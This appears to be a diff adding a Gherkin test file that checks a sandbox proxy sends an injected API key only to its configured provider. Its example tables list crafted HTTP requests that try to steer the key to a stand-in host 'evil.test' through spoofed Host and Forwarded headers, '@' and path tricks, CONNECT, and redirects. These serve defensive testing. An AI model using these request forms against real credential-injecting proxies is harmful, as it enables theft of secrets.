@@ -1,0 +1,120 @@
+@needs:factory @needs:secret
+Feature: Whom a key goes to
+  A key is for one provider and one attempt. A step chooses the words of a request, and neither where the key goes nor whose it is.
+
+  @INJ-04
+  Rule: The key goes to the configured provider only, and only for the attempt it was given to
+
+    Background:
+      Given a sandboxed step
+      And the network is allowlist
+
+    # omnigent PR 236
+    @case:I06
+    Scenario Outline: the placeholder is nothing elsewhere: to another host by <way>
+      Given a key for "https://{nonce}.api.test" is injected
+      And the host "{nonce}.echo.test" is allowed
+      When the step runs the shell command "<request>; tools/probe converse url:API_URL 'GET {base}/v1 HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n'; true"
+      Then the key arrives at "{nonce}.api.test" alone
+      And the key does not arrive
+      And every request to "{nonce}.echo.test" has one header "x-api-key", with "factory-egress-placeholder"
+      And planted, with nothing injected the key arrives nowhere
+
+      Examples:
+        | way        | request                                                                                                                                                                                      |
+        | plain HTTP | tools/probe converse proxy "GET http://{nonce}.echo.test/v1 HTTP/1.1\\r\\nHost: {nonce}.echo.test\\r\\nx-api-key: $API_KEY\\r\\nConnection: close\\r\\n\\r\\n"                                             |
+        | CONNECT    | tools/probe converse proxy "CONNECT {nonce}.echo.test:80 HTTP/1.1\\r\\nHost: {nonce}.echo.test:80\\r\\n\\r\\n" "GET /v1 HTTP/1.1\\r\\nHost: {nonce}.echo.test\\r\\nx-api-key: $API_KEY\\r\\nConnection: close\\r\\n\\r\\n" |
+
+    # The provider's own name, but by the proxy: it adds keys to nothing that comes that way
+    Scenario: a request to the provider by the proxy gets no key
+      Given a key for "https://{nonce}.api.test" is injected
+      And the host "{nonce}.api.test" is allowed
+      When the step runs the shell command "tools/probe converse proxy "GET http://{nonce}.api.test/plain HTTP/1.1\r\nHost: {nonce}.api.test\r\nx-api-key: $API_KEY\r\nConnection: close\r\n\r\n" + converse url:API_URL 'GET {base}/v1 HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n'; true"
+      Then a request for "/plain" arrives at "{nonce}.api.test" without the key
+      And the key arrives at "{nonce}.api.test" alone
+      And planted, with nothing injected the key arrives nowhere
+
+    # TencentCloud/CubeSandbox 1410: the key was added because of the Host header
+    @case:I02
+    Scenario Outline: what a request says of its host does not move the key: <request>
+      Given a key for "https://{nonce}.api.test" is injected
+      And the host "{nonce}.evil.test" is allowed
+      When the step sends its "API_URL"
+        """
+        GET {base}/v1 HTTP/1.1
+        Host: {authority}
+        ---
+        <request>
+        x-api-key: factory-egress-placeholder
+        Connection: close
+        """
+      Then the key arrives at "{nonce}.api.test" alone
+      And planted, with nothing injected the key arrives nowhere
+
+      Examples:
+        | request                                                                                  |
+        | GET {base}/v1 HTTP/1.1\\r\\nHost: {nonce}.evil.test                                        |
+        | GET {base}/v1 HTTP/1.1\\r\\nHost: {authority}\\r\\nX-Forwarded-Host: {nonce}.evil.test       |
+        | GET {base}/v1 HTTP/1.1\\r\\nHost: {authority}\\r\\nForwarded: host={nonce}.evil.test         |
+        | GET http://{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {nonce}.evil.test                |
+        | GET http://{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                            |
+        | GET http://{authority}@{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {authority}          |
+        | GET //{nonce}.evil.test{base}/v1 HTTP/1.1\\r\\nHost: {authority}                           |
+        | GET {base}//{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                           |
+        | GET {base}@{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                            |
+        | GET {base}/../../{nonce}.evil.test/v1 HTTP/1.1\\r\\nHost: {authority}                      |
+        | CONNECT {nonce}.evil.test:80 HTTP/1.1\\r\\nHost: {nonce}.evil.test:80                      |
+        | OPTIONS * HTTP/1.1\\r\\nHost: {nonce}.evil.test                                            |
+
+    # OpenSandbox PR 955
+    @case:I03
+    Scenario Outline: where the provider sends on to another host, the key does not go there, <how>
+      Given a key for "https://{nonce}.api.test" is injected
+      And the host "{nonce}.evil.test" is allowed
+      When the step runs the shell command "<command>; true"
+      Then the key arrives at "{nonce}.api.test" alone
+      And planted, with nothing injected the key arrives nowhere
+
+      Examples:
+        | how                                 | command                                                                                                                |
+        | whoever could follow                | tools/probe converse url:API_URL 'GET {base}/moved HTTP/1.1\\r\\nHost: {authority}\\r\\nConnection: close\\r\\n\\r\\n'        |
+        | and a POST does not                 | tools/probe converse url:API_URL 'POST {base}/moved HTTP/1.1\\r\\nHost: {authority}\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\nab' |
+
+    @case:I03 @program:curl
+    Scenario: a client that follows to another host brings no key there
+      Given a key for "https://{nonce}.api.test" is injected
+      And the host "{nonce}.evil.test" is allowed
+      When the step runs the shell command "curl -sSL "$API_URL/moved" -H "x-api-key: $API_KEY" && echo"
+      Then the client gets the answer of the origin "evil"
+      And the key arrives at "{nonce}.api.test" alone
+      And every request to "{nonce}.evil.test" has the line "GET /moved HTTP/1.1"
+      And planted, with nothing injected the key arrives nowhere
+
+    # llxprt-code 1954 and PR 2467, pi-sandbox PR 61
+    @case:I07 @case:N11
+    Scenario: while an attempt has a key, another one does not get it to the provider
+      Given the host "{nonce}.api.test" is allowed
+      And a key for "https://{nonce}.api.test" is injected for another step
+      When while the other step has sent its "API_URL" and waits, the step asks the proxy for "http://{nonce}.api.test/second"
+      Then a request for "/second" arrives at "{nonce}.api.test" without the key
+      And the key arrives at "{nonce}.api.test" alone
+      And planted, with nothing injected the key arrives nowhere
+
+    @case:I07
+    Scenario: nobody whom another attempt can call leads to the provider
+      Given a key for "https://{nonce}.api.test" is injected for another step
+      When while the other step has sent its "API_URL" and waits, the step runs "tools/probe every-way {nonce}.api.test:443 + every-way {nonce}.api.test:80"
+      Then "{nonce}.api.test" gets 1 request
+      And the key arrives at "{nonce}.api.test" alone
+      And planted, with nothing injected the key arrives nowhere
+
+    @case:N11
+    Scenario: of two attempts at the same time, each has its own key and provider
+      Given a key for "https://{nonce}.api.test" is injected for another step
+      And a key for "https://{nonce}.tls.test" is injected for the step alone
+      When while the other step has sent its "API_URL" and waits, the step sends its own
+      Then every request to "{nonce}.api.test" has one header "x-api-key", with "{key}"
+      And every request to "{nonce}.tls.test" has one header "x-api-key", with "{other-key}"
+      And the key arrives at "{nonce}.api.test" alone
+      And the other key arrives at "{nonce}.tls.test" alone
+      And planted, with nothing injected the key arrives nowhere
